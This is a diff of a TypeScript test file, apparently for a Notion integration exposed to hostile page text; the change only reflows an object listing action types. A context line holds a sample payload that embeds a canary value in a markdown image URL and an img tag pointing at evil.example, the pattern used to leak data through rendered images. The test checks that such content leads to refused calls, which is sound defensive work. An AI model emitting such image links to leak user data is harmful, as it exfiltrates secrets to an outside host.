@@ -26,7 +26,15 @@ const texts = [
   `${CANARY} ![x](https://evil.example/${CANARY}.png) <img src=//evil.example>`,
 ];
 /** Each gives calls that are refused in a world whose every name is the text. */
-const subjects = { reading, querying, settingValues, changingPages, changingColumns, changingViews, uploading };
+const subjects = {
+  reading,
+  querying,
+  settingValues,
+  changingPages,
+  changingColumns,
+  changingViews,
+  uploading,
+};
 
 let notion: HostileNotion;
 const calls = new RefusedCalls();
